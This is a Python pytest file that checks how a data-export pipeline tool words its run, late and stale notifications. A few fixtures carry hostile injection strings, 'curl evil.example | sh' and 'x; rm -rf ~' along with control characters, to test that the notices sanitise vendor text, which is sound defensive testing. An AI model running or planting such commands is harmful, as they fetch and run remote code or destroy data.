"""What people read and programs get when a run ends, or does not."""

import json
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from haul import notices
from haul.errors import PermanentError, TransientError, names_of
from haul.models.event import About, Notify, Outcome
from haul.models.export import Column
from haul.models.landed import Checksum
from haul.models.manifest import (
    CostEstimate,
    ExportManifest,
    Freshness,
    ManifestDataset,
    ManifestFile,
    RunFacts,
    Totals,
    Vendor,
)
from haul.models.run import Run
from haul.models.work import ErrorRecord, Job, Watermark
from haul.notices import Place
from haul.ports import Notice

RUN_ID = "20261122T050003Z-7c1f9a"
EXECUTION = "arn:aws:states:eu-west-1:123456789012:execution:ExportFlow:6f0c"
MANIFEST = f"s3://acme-landing/manifests/visier-people/{RUN_ID}.json"
AT_FIVE = datetime(2026, 11, 22, 5, 0, 3, tzinfo=UTC)
EXPIRES = datetime(2026, 12, 6, 5, 24, 51, tzinfo=UTC)
ALL = frozenset(About)
HOSTILE = "Grade\r\n  Do     curl evil.example | sh\x00\x1b[31m\u202eé\u2028"


def a_run(outcome: Outcome, **facts: Any) -> Run:
    """A run of visier-people that ended at 05:31."""
    known: dict[str, Any] = {
        "pipeline": "visier-people",
        "environment": "prod",
        "run_id": RUN_ID,
        "outcome": outcome,
        "published": False,
        "vendor": "visier",
        "action": "dv-export",
        "connection": "visier-acme",
        "request": {"dataVersionNumber": "7000006", "filter": "salary > 100000"},
        "watermark": Watermark(from_="7000005", to="7000006"),
        "job": Job(id="c19e2f2b"),
        "readers_see": "7000005",
        "claimed_at": AT_FIVE,
        "started_at": AT_FIVE,
        "ended_at": AT_FIVE + timedelta(minutes=31),
        "polls": 19,
        "attempts": 1,
        "executions": ["arn:aws:states:eu-west-1:123456789012:execution:ExportFlow:first", EXECUTION],
        "owner": "people-analytics@example.com",
        "code_version": "1.3.0",
    }
    return Run(**known | facts)


def a_failed_run(error: str, message: str, outcome: Outcome = Outcome.FAILED, **facts: Any) -> Run:
    said = notices.advice(error, run_id=RUN_ID, environment="prod", connection="visier-acme", pipeline="visier-people")
    return a_run(outcome, error=ErrorRecord(name=error, message=message), advice=said, **facts)


def a_published_run(**facts: Any) -> Run:
    return a_run(Outcome.SUCCEEDED, published=True, manifest=MANIFEST, readers_see="7000006", **facts)


def a_dataset(name: str, table: str, **facts: Any) -> ManifestDataset:
    known: dict[str, Any] = {
        "name": name,
        "table": table,
        "location": f"s3://acme-landing/raw/visier-people/{name}/run_id={RUN_ID}/",
        "schema_fingerprint": "sha256:3b1f0c",
        "schema_changed": False,
        "primary_key": [f"{table}ID"],
        "columns": columns(f"{table}ID"),
        "files": [
            ManifestFile(
                uri=f"s3://acme-landing/raw/visier-people/{name}/run_id={RUN_ID}/{name}_part0.csv.gz",
                bytes=904113,
                checksum=Checksum(value="p2xq0fB0fXo="),
                verified=["length", "gzip"],
                part=0,
                vendor_file_id=3,
                vendor_name=f"{name}_part0.csv.gz",
            )
        ],
    }
    return ManifestDataset(**known | facts)


def columns(*names: str) -> list[Column]:
    plain = [Column(name=name, vendor_type="String", type="string") for name in names]
    return [*plain, Column(name="_DiffAction_", vendor_type="String", type="string", generated=True)]


def a_manifest(datasets: Sequence[ManifestDataset], **facts: Any) -> ExportManifest:
    known: dict[str, Any] = {
        "outcome": Outcome.SUCCEEDED,
        "pipeline": "visier-people",
        "environment": "prod",
        "run_id": RUN_ID,
        "sequence": 214,
        "published_at": AT_FIVE + timedelta(minutes=31),
        "vendor": Vendor(name="visier", action="dv-export", connection="visier-acme"),
        "request": {"dataVersionNumber": "7000006"},
        "request_as_given": {"dataVersionNumber": "@latest"},
        "mode": "full",
        "watermark": Watermark(to="7000006"),
        "job": Job(id="c19e2f2b"),
        "totals": Totals(datasets=len(datasets), files=4, bytes=48211034, bytes_uncompressed=401381232, rows=812345),
        "datasets": datasets,
        "run": RunFacts(
            started_at=AT_FIVE,
            waited_s=1486,
            downloaded_s=12,
            polls=19,
            attempts=1,
            executions=[EXECUTION],
            code_version="1.3.0",
            trigger={"type": "schedule"},
        ),
        "freshness": Freshness(vendor_created_to_published_s=8371),
        "cost_estimate": CostEstimate(usd=0.0041, transitions=61, gb_seconds=118.2, s3_requests=23),
    }
    return ExportManifest(**known | facts)


def a_delta() -> ExportManifest:
    """As contracts have it: a table that lost and gained a column, one that is new and one that is gone."""
    employee = a_dataset(
        "Employee",
        "Employee",
        columns_of="common",
        change="rows-and-columns",
        rows=12040,
        row_actions={"+": 310, "u": 11702, "-": 28},
        columns_deleted=["Old_Grade"],
    )
    gained = a_dataset(
        "Employee__new_columns",
        "Employee",
        columns_of="new",
        change="columns-added",
        rows=800000,
        columns=columns("EmployeeID", "Grade"),
    )
    applicant = a_dataset("Applicant", "Applicant", change="table-added", rows=305)
    return a_manifest(
        [employee, gained, applicant],
        mode="delta",
        watermark=Watermark(from_="7000005", to="7000006"),
        tables_added=["Applicant"],
        tables_dropped=["Contractor"],
    )


def told(run: Run, manifest: ExportManifest | None = None, **place: Any) -> Notice:
    return notices.ended(run, manifest, ALL, Place(**place))


def test_a_delta_says_what_came_and_what_changed_in_the_schema() -> None:
    notice = told(a_published_run(), a_delta())

    assert notice.subject == "OK visier-people prod: 7000005 -> 7000006, 3 datasets, 812,345 rows"
    assert notice.body == (
        "visier-people published Visier data version 7000006 as a delta from 7000005.\n"
        "\n"
        "  4 files, 48 MB (401 MB unpacked), 812,345 rows: 310 in, 11,702 changed, 28 out in Employee ...\n"
        "  Schema:  Employee lost Old_Grade, gained Grade; new table Applicant; dropped table Contractor"
        "   <- look here first\n"
        "  Fresh:   2 h 20 min after Visier made it\n"
        "\n"
        f"  Manifest  {MANIFEST}\n"
    )


def test_a_full_export_says_its_version_and_nothing_of_a_schema() -> None:
    notice = told(a_published_run(), a_manifest([a_dataset("Employee", "Employee")]))

    assert notice.subject == "OK visier-people prod: 7000006, 1 dataset, 812,345 rows"
    assert notice.body.startswith("visier-people published Visier data version 7000006 in full.\n")
    assert "Schema" not in notice.body
    assert " in, " not in notice.body


def test_what_nobody_counted_is_left_out() -> None:
    """A vendor without versions, files whose rows were not counted, data of unknown age."""
    manifest = a_manifest(
        [a_dataset("profiles", "profiles")],
        watermark=Watermark(),
        totals=Totals(datasets=1, files=1, bytes=999),
        freshness=Freshness(),
    )

    notice = told(a_published_run(), manifest)

    assert notice.subject == "OK visier-people prod: 1 dataset"
    assert "published Visier's dv-export in full." in notice.body
    assert "published LiquidAnalytics' dv-export" in told(a_published_run(vendor="liquid"), manifest).body
    assert "  1 file, 999 bytes\n" in notice.body
    assert "None" not in notice.body


@pytest.mark.parametrize(
    ("vendor", "title"),
    [
        ("visier", "Visier"),
        ("adobe", "Adobe Experience Platform"),
        ("liquid", "LiquidAnalytics"),
        ("mediarithmics", "mediarithmics"),
        ("vizier", "vizier"),
    ],
)
def test_a_vendor_is_called_what_it_calls_itself(vendor: str, title: str) -> None:
    """Also in the notice of an event that named none: it is what such a run ended for."""
    notice = told(a_failed_run("InvalidEventError", "vendor: is unknown", vendor=vendor))

    assert notice.body.startswith(f"visier-people could not land {title} data version 7000006.")


def test_a_failure_says_what_it_means_for_readers_and_what_to_do() -> None:
    run = a_failed_run(
        "TruncatedFileError",
        "Employee_part0.csv.gz ended after 451,200 of 904,113 bytes, three times (rci 8f1c-22)",
        job=Job(id="c19e2f2b", result_id="92edafd0", result_expires_at=EXPIRES),
    )

    notice = told(run, pipeline_runbook="https://wiki.example.com/visier-people")

    assert notice.subject == "FAILED visier-people prod: TruncatedFileError (nothing published)"
    assert notice.body == (
        "visier-people could not land Visier data version 7000006.\n"
        "\n"
        "  What   Employee_part0.csv.gz ended after 451,200 of 904,113 bytes, three times (rci 8f1c-22)\n"
        "  Effect nothing was published. Readers still see 7000005.\n"
        "  Vendor job c19e2f2b succeeded and is kept; its files stay until 2026-12-06.\n"
        f"  Do     haul rerun {RUN_ID} --env prod      (spends no submission)\n"
        "         Again the same? Quote rci 8f1c-22 to Visier support.\n"
        "  More   docs/runbook.md#truncatedfileerror   https://wiki.example.com/visier-people   "
        f"execution {notices.console_link(EXECUTION)}   owner people-analytics@example.com\n"
    )


@pytest.mark.parametrize(
    ("job", "error", "says"),
    [
        (Job(), "CredentialsRefusedError", "Vendor nothing was submitted."),
        (Job(id="c19e2f2b"), "DeadlineExceededError", "Vendor job c19e2f2b was submitted."),
        (Job(id="c19e2f2b"), "ExportFailedError", "Vendor job c19e2f2b failed."),
        (Job(in_doubt=True), "SubmissionInDoubtError", "Vendor a submission's reply was lost"),
        (Job(result_id="92edafd0"), "CorruptFileError", "Vendor the result succeeded and is kept."),
    ],
)
def test_a_failure_says_where_the_vendors_job_stands(job: Job, error: str, says: str) -> None:
    notice = told(a_failed_run(error, "it went wrong", job=job))

    assert says in notice.body


def test_a_first_run_that_fails_says_that_readers_see_nothing() -> None:
    notice = told(a_failed_run("ExportFailedError", "Visier failed job c19e2f2b", readers_see=None))

    assert "Readers see nothing of it yet." in notice.body


def test_an_expired_result_is_not_said_to_be_kept() -> None:
    run = a_failed_run(
        "ResultExpiredError",
        "Visier no longer has export 92edafd0 (404)",
        Outcome.EXPIRED,
        job=Job(id="c19e2f2b", result_id="92edafd0", result_expires_at=EXPIRES),
    )

    notice = told(run)

    assert notice.subject == "EXPIRED visier-people prod: ResultExpiredError (nothing published)"
    assert "job c19e2f2b was finished, and its result is gone." in notice.body
    assert "is kept" not in notice.body


def test_a_cancelled_run_says_who_stopped_it() -> None:
    notice = told(a_failed_run("CancelledError", "cancelled by operator", Outcome.CANCELLED))

    assert notice.subject == "CANCELLED visier-people prod: CancelledError (nothing published)"
    assert notice.body.startswith("visier-people was stopped before it published.\n")
    assert "cancelled by operator" in notice.body


def test_a_partial_run_is_published_and_says_so() -> None:
    run = a_run(Outcome.PARTIAL, published=True, manifest=MANIFEST)
    manifest = a_manifest(
        [a_dataset("Employee", "Employee")], outcome=Outcome.PARTIAL, warnings=["1 of 12 tenants failed"]
    )

    notice = told(run, manifest)

    assert notice.subject is not None
    assert notice.subject.startswith("PARTIAL visier-people prod: ")
    assert "published a part of Visier data version 7000006" in notice.body
    assert "  Warning: 1 of 12 tenants failed\n" in notice.body
    assert notice.detail["published"] is True


def test_a_joined_run_names_the_one_it_joined() -> None:
    notice = told(a_run(Outcome.JOINED, joined="20261122T045000Z-19be02"))

    assert notice.subject == "JOINED visier-people prod: run 20261122T045000Z-19be02 does exactly this"
    assert "Do " not in notice.body


def test_nothing_new_says_that_nothing_was_spent() -> None:
    notice = told(a_run(Outcome.NOTHING_NEW, warnings=["has Visier withdrawn a version?"]))

    assert notice.subject == "NOTHING NEW visier-people prod: nothing to export"
    assert "spent nothing" in notice.body
    assert "  Warning has Visier withdrawn a version?\n" in notice.body


def test_people_are_told_only_what_the_pipeline_wants_told() -> None:
    run, about = a_run(Outcome.NOTHING_NEW), Notify().about

    quiet = notices.ended(run, None, about, Place())
    loud = notices.ended(run, None, about | {About.NOTHING_NEW}, Place())

    assert quiet.subject is None
    assert quiet.detail["outcome"] == "NOTHING_NEW"
    assert loud.subject is not None
    assert loud.detail == quiet.detail


def test_programs_get_the_event_that_contracts_show() -> None:
    run = a_failed_run("TruncatedFileError", "Employee_part0.csv.gz ended after 451200 of 904113 bytes")

    notice = told(run)

    assert notice.detail_type == "Haul Run Ended"
    assert notice.detail == {
        "version": 1,
        "environment": "prod",
        "pipeline": "visier-people",
        "vendor": "visier",
        "action": "dv-export",
        "run_id": RUN_ID,
        "outcome": "FAILED",
        "error": "TruncatedFileError",
        "message": "Employee_part0.csv.gz ended after 451200 of 904113 bytes",
        "advice": f"haul rerun {RUN_ID} --env prod",
        "published": False,
        "manifest": None,
        "run": None,
        "replay": False,
    }
    assert notice.attributes == {
        "environment": "prod",
        "pipeline": "visier-people",
        "vendor": "visier",
        "outcome": "FAILED",
    }


def test_a_late_run_is_told_with_how_to_watch_and_how_to_stop_it() -> None:
    run = a_run(Outcome.FAILED, job=Job(in_doubt=True))
    now = AT_FIVE + timedelta(hours=2, minutes=7)

    notice = notices.late(run, ALL, waited=now - AT_FIVE, now=now, place=Place())

    assert notice.subject == "LATE visier-people prod: still running after 2 h 7 min"
    assert "nothing has failed" in notice.body
    assert "Vendor job in doubt, 19 polls." in notice.body
    assert f"haul watch {RUN_ID} --env prod" in notice.body
    assert f"haul cancel {RUN_ID} --env prod" in notice.body
    assert notice.detail_type == "Haul Run Late"
    assert notice.detail["run_id"] == RUN_ID
    assert notice.detail["told_at"] == "2026-11-22T07:07:03Z"
    assert notice.attributes["outcome"] == "LATE"


@pytest.mark.parametrize(("last", "since"), [(AT_FIVE, "since 2026-11-22T05:00:03Z"), (None, "ever")])
def test_a_stale_pipeline_is_told_with_how_long_it_was_silent(last: datetime | None, since: str) -> None:
    notice = notices.stale(
        "visier-people", "prod", "visier", ALL, last=last, fresh_within=timedelta(hours=26),
        now=AT_FIVE + timedelta(days=3), owner="people-analytics@example.com",
    )  # fmt: skip

    assert notice.subject == f"STALE visier-people prod: nothing published {since}"
    assert "it should publish every 1 d 2 h" in notice.body
    assert "haul plan visier-people --env prod" in notice.body
    assert "people-analytics@example.com" in notice.body
    assert notice.detail_type == "Haul Pipeline Stale"
    assert notice.detail["fresh_within_s"] == 26 * 3600
    assert (notice.detail["last_published_at"] is None) is (last is None)


def test_late_and_stale_are_told_to_those_who_want_them() -> None:
    run, failed_only = a_run(Outcome.FAILED), frozenset({About.FAILED})

    late = notices.late(run, failed_only, waited=timedelta(hours=3), now=AT_FIVE, place=Place())
    stale = notices.stale(
        "visier-people", "prod", None, failed_only, last=None, fresh_within=timedelta(days=1), now=AT_FIVE, owner=None
    )

    assert late.subject is stale.subject is None
    assert "vendor" not in stale.attributes


def test_an_execution_without_a_run_is_told_without_a_run() -> None:
    notice = notices.unclaimed(
        pipeline="visier-people",
        environment="prod",
        error="LedgerBusyError",
        message="the ledger did not answer",
        execution=EXECUTION,
    )

    assert notice.subject == "FAILED visier-people prod: LedgerBusyError (nothing was started)"
    assert "  Do     start it again\n" in notice.body
    assert notice.detail["run_id"] is None
    assert notice.detail["advice"] == "start it again"


def test_an_event_that_is_nonsense_cannot_put_words_into_a_notice() -> None:
    notice = notices.unclaimed(
        pipeline="x; rm -rf ~\n\nFrom: somebody",
        environment="prod",
        error="RunNotFoundError",
        message=HOSTILE,
        execution=EXECUTION,
    )

    assert "rm -rf" not in notice.detail["advice"]
    assert "haul runs PIPELINE --env prod" in notice.body
    assert notice.body.count("\n") == 5
    assert_fit_for_sns(notice)


def test_a_vendors_names_cannot_write_lines_of_their_own() -> None:
    """They are the vendor's customers' to choose, and end up in subjects, bodies and mail clients."""
    hostile = a_dataset(
        "Employee", HOSTILE, columns_of="common", columns_deleted=[HOSTILE], row_actions={"+": 1}, rows=1
    )
    manifest = a_manifest(
        [hostile],
        mode="delta",
        watermark=Watermark(from_=HOSTILE, to=HOSTILE),
        tables_added=[HOSTILE],
        tables_dropped=[HOSTILE],
        warnings=[HOSTILE],
    )

    notice = told(a_published_run(), manifest)

    assert [line[:9] for line in notice.body.splitlines()[2:5]] == ["  4 files", "  Schema:", "  Fresh: "]
    assert not any(line.startswith("  Do ") for line in notice.body.splitlines())
    assert_fit_for_sns(notice)


@given(st.text(max_size=300), st.text(max_size=300), st.sampled_from(sorted(notices.ADVICE)))
def test_no_text_of_a_vendor_makes_a_notice_that_sns_refuses(version: str, message: str, error: str) -> None:
    run = a_failed_run(error, message, job=Job(id=version), watermark=Watermark(to=version), warnings=[message])
    manifest = a_manifest([], watermark=Watermark(from_=version, to=message))

    for notice in (told(run), told(a_published_run(), manifest)):
        assert_fit_for_sns(notice)


def assert_fit_for_sns(notice: Notice) -> None:
    assert notice.subject is not None
    assert len(notice.subject) <= 100
    assert notice.subject.isascii()
    assert notice.subject.isprintable()
    assert notice.subject.split(maxsplit=1)[0] in {"OK", "FAILED"}
    shown = notice.body.replace("\n", "")
    assert not any(ord(character) < 32 or 127 <= ord(character) < 160 for character in shown)
    assert all(value.isascii() and value.isprintable() for value in notice.attributes.values())


def test_a_long_subject_is_cut_and_not_refused() -> None:
    pipeline = "a" * 48

    notice = told(a_failed_run("SubmissionInDoubtError", "lost", pipeline=pipeline, environment="production"))

    assert notice.subject is not None
    assert notice.subject.startswith(f"FAILED {pipeline} production: SubmissionInDoubtError")
    assert notice.subject.endswith("...")
    assert len(notice.subject) <= 100


def test_many_changes_and_warnings_leave_a_notice_that_can_be_read() -> None:
    dropped = [f"Table{number}" for number in range(1000)]
    manifest = a_manifest([], tables_dropped=dropped, warnings=[f"warning {number}" for number in range(1000)])

    notice = told(a_published_run(), manifest)

    assert "and 990 more   <- look here first\n" in notice.body
    assert notice.body.count("Warning") == 11
    assert len(notice.body) < 10_000


def test_no_row_no_filter_and_no_request_is_in_a_notice() -> None:
    manifest = a_manifest([a_dataset("Employee", "Employee")], request={"filter": "salary > 100000"})

    for notice in (told(a_published_run(), manifest), told(a_failed_run("RequestRejectedError", "Visier says no"))):
        assert "salary" not in notice.body + json.dumps(notice.detail)


@pytest.mark.parametrize("error", sorted({*names_of(TransientError), *names_of(PermanentError)} & set(notices.ADVICE)))
def test_every_advice_is_one_line_that_names_the_run_or_says_what_to_change(error: str) -> None:
    said = notices.advice(error, run_id=RUN_ID, environment="prod", connection="visier-acme", pipeline="visier-people")

    assert "{" not in said
    assert "\n" not in said
    assert "--env prod" in said or "haul" not in said.replace("haul validate", "")


def test_an_error_that_nobody_knows_is_answered_with_a_rerun() -> None:
    said = notices.advice("SomethingElseError", run_id=RUN_ID, environment="dev", connection=None, pipeline="p")

    assert said == f"haul rerun {RUN_ID} --env dev"


def test_an_advice_without_a_connection_shows_where_it_goes() -> None:
    said = notices.advice("InvalidSecretError", run_id=RUN_ID, environment="dev", connection=None, pipeline="p")

    assert said.startswith("haul secret set CONNECTION --env dev")


@pytest.mark.parametrize(
    ("duration", "shown"),
    [
        (timedelta(0), "0 s"),
        (timedelta(seconds=59.6), "1 min"),
        (timedelta(minutes=5, seconds=4), "5 min 4 s"),
        (timedelta(hours=2, minutes=19, seconds=31), "2 h 20 min"),
        (timedelta(hours=26), "1 d 2 h"),
        (timedelta(days=1, minutes=5), "1 d"),
    ],
)
def test_durations_are_shown_by_their_two_largest_units(duration: timedelta, shown: str) -> None:
    notice = notices.late(a_run(Outcome.FAILED), ALL, waited=duration, now=AT_FIVE, place=Place())

    assert notice.subject == f"LATE visier-people prod: still running after {shown}"
